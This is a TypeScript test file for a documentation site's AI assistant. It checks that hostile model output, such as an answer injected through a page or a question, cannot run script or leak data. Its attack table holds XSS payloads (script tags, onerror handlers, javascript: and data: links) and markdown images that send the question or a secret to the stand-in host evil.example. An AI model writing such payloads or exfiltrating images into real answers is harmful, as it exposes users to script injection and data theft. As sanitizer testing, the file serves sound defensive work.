import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { AssistantPanel } from '../support/assistant-panel.ts';
import { type AssistantSite, serveAssistant } from '../support/assistant-site.ts';
import { test, type Visit } from '../support/visit.ts';

/**
 * What a model may be made to write, by a page or a question that tells it to. Each would run
 * script, ask another host for something, or take the reader elsewhere.
 */
const attacks: Readonly<Record<string, string>> = {
  script: 'Text <script>window.hurt = 1</script> more.',
  'a script in a block': '<script>\nwindow.hurt = 1\n</script>\n',
  'a handler of an image': '<img src=x onerror="window.hurt = 1">',
  'a handler of a picture': '<svg onload="window.hurt = 1"><circle r=1></svg>',
  'a handler of details': '<details open ontoggle="window.hurt = 1"><summary>x</summary></details>',
  'a style sheet': '<style>@import "https://evil.example/a.css"; body { display: none }</style>',
  'a frame':
    '<iframe src="https://evil.example/" srcdoc="<script>parent.hurt = 1</script>"></iframe>',
  'an object':
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
  'a form':
    '<form action="https://evil.example/"><input name="password" autofocus><button>Go</button></form>',
  'a base':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'an image of another host': '![secret](https://evil.example/?q=what-was-asked)',
  'an image by reference': '![secret][1]\n\n[1]: https://evil.example/?q=what-was-asked',
  'an image in a link': '[![x](https://evil.example/pixel.gif)](https://evil.example/)',
  'an image of the site': '![x](/logo.svg?answer=secret)',
  'a link that runs':
    '[click](javascript:window.hurt=1) and [this](JaVaScRiPt&colon;window.hurt=1)',
  'a link to data': '[click](data:text/html,<script>window.opener.hurt=1</script>)',
  'an address that runs': '<javascript:window.hurt=1>',
  'a link by reference that runs': '[click][1]\n\n[1]: javascript:window.hurt=1',
  'a title that breaks out': `[click](https://evil.example/ '" onmouseover="window.hurt=1')`,
  'a language that breaks out': '```"><img src=x onerror=window.hurt=1>\ncode\n```',
  'a tag in code': '`<img src=x onerror=window.hurt=1>`',
  'a tag in a table': '| a |\n| --- |\n| <img src=x onerror=window.hurt=1> |',
  'a template in mathematics':
    '<math><mtext><table><mglyph><style><img src=x onerror=window.hurt=1>',
  'an element of the page':
    '<div id="content-area" class="wm-ask" data-wm-opens="wm-search">x</div>',
};

let site: AssistantSite;

beforeAll(async () => {
  site = await serveAssistant('atlas', { hasModel: true });
});

afterAll(() => site?.stop());

async function visitAssistant(visit: Visit): Promise<AssistantPanel> {
  // Whatever is asked of another host fails the test.
  const docs = await visit('/quickstart', { origin: site.origin });
  return new AssistantPanel(docs);
}

/** The events of an answer, as a server sends them that filters nothing. */
function unfiltered(text: string): string {
  const url = 'javascript:window.hurt=1';
  const title = '<img src=x onerror=window.hurt=1>';
  const threadId = 'thr_01AAAAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAAAAAAAA';
  const pieces = text.match(/[\s\S]{1,7}/g) ?? [];
  const chunks = [
    { type: 'start', messageId: 'msg_1', messageMetadata: { threadId } },
    { type: 'start-step' },
    { type: 'text-start', id: 'answer' },
    ...pieces.map((delta) => ({ type: 'text-delta', id: 'answer', delta })),
    { type: 'source-url', sourceId: '1', url, title },
    { type: 'text-end', id: 'answer' },
    { type: 'finish-step' },
    { type: 'finish', messageMetadata: { threadId, finishReason: 'stop' } },
  ];
  const events = chunks.map((chunk) => `data: ${JSON.stringify(chunk)}\n\n`);
  return `${events.join('')}data: [DONE]\n\n`;
}

/** Clicks all that can be clicked of an answer, and says what is left of the attack. */
async function damageOf({ page }: { page: Page }, answer: ReturnType<Page['locator']>) {
  const address = page.url();
  for (const link of await answer.locator('.wm-answer-text a').all()) {
    await link.hover();
    const href = await link.getAttribute('href');
    // Other hosts are left alone; what runs would run here.
    if (href !== null && !/^(https?|mailto):/.test(href)) await link.click();
  }
  await page.waitForTimeout(50);
  return answer.evaluate((element, before) => {
    const foreign = [...element.querySelectorAll('.wm-answer-text *, .wm-sources *')].filter(
      (one) =>
        !one.matches('div, p, ul, ol, li, a, em, strong, code, pre, blockquote, h3, hr, br, del') &&
        !one.matches('table, thead, tbody, tr, td, th, span, button, svg, path'),
    );
    const handlers = [...element.querySelectorAll('*')].flatMap((one) =>
      one.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style'),
    );
    const ids = [
      ...element.querySelectorAll('.wm-answer-text [id], .wm-answer-text [data-wm-opens]'),
    ];
    return {
      hurt: Reflect.get(window, 'hurt'),
      elements: foreign.map(({ tagName }) => tagName),
      handlers,
      ids: ids.length,
      left: location.href !== before,
      links: [...element.querySelectorAll('a')].map(({ protocol }) => protocol),
    };
  }, address);
}

const unhurt = { hurt: undefined, elements: [], handlers: [], ids: 0, left: false };

/** Asks once for each attack, in one conversation, and says which of the answers did harm. */
async function expectUnhurt(
  assistant: AssistantPanel,
  answerWith: (attack: string) => void,
): Promise<void> {
  await assistant.open();
  for (const [name, attack] of Object.entries(attacks)) {
    answerWith(attack);
    const answer = await assistant.ask('How do I create a key?');
    await expectNoDamage(assistant, answer, name);
  }
}

async function expectNoDamage(
  assistant: AssistantPanel,
  answer: ReturnType<Page['locator']>,
  name: string,
): Promise<void> {
  const { links, ...damage } = await damageOf(assistant.docs, answer);
  expect.soft(damage, name).toEqual(unhurt);
  const others = links.filter((protocol) => !/^(https?|mailto):$/.test(protocol));
  expect.soft(others, name).toEqual([]);
}

describe('Answers that would do harm do none', { timeout: 180_000 }, () => {
  test('where the server has filtered them', async ({ visit }) => {
    const assistant = await visitAssistant(visit);
    await expectUnhurt(assistant, (attack) => {
      site.model.answer = { pieces: `Create a key. ${attack}`.match(/[\s\S]{1,9}/g) ?? [] };
    });
  });

  test('where no server has, nor on the next page, which shows them again', async ({ visit }) => {
    const assistant = await visitAssistant(visit);
    let body = '';
    await assistant.docs.page.route(/\/message$/, (route) =>
      route.fulfill({ contentType: 'text/event-stream', body }),
    );
    await expectUnhurt(assistant, (attack) => {
      body = unfiltered(attack);
    });
    await assistant.docs.page.reload();
    await assistant.answers.first().waitFor();
    for (const [index, name] of Object.keys(attacks).entries()) {
      await expectNoDamage(assistant, assistant.answers.nth(index), `${name}, again`);
    }
  });
});

test('A question is shown as it was typed', async ({ visit }) => {
  const assistant = await visitAssistant(visit);
  site.model.answer = { pieces: ['No.'] };
  await assistant.open();
  const question = '<img src=x onerror="window.hurt = 1"> **bold**';
  await assistant.ask(question);
  expect(await assistant.questions.textContent()).toBe(question);
  expect(await assistant.questions.locator('img, strong').count()).toBe(0);
});

test('A link with a hostile question only asks it', async ({ visit }) => {
  site.model.answer = { pieces: ['No.'] };
  const question = '<script>window.hurt = 1</script>';
  const docs = await visit(`/quickstart?assistant=${encodeURIComponent(question)}`, {
    origin: site.origin,
  });
  const assistant = new AssistantPanel(docs);
  await assistant.ended();
  expect(await assistant.questions.textContent()).toBe(question);
  expect(await docs.page.evaluate(() => Reflect.get(window, 'hurt'))).toBeUndefined();
});
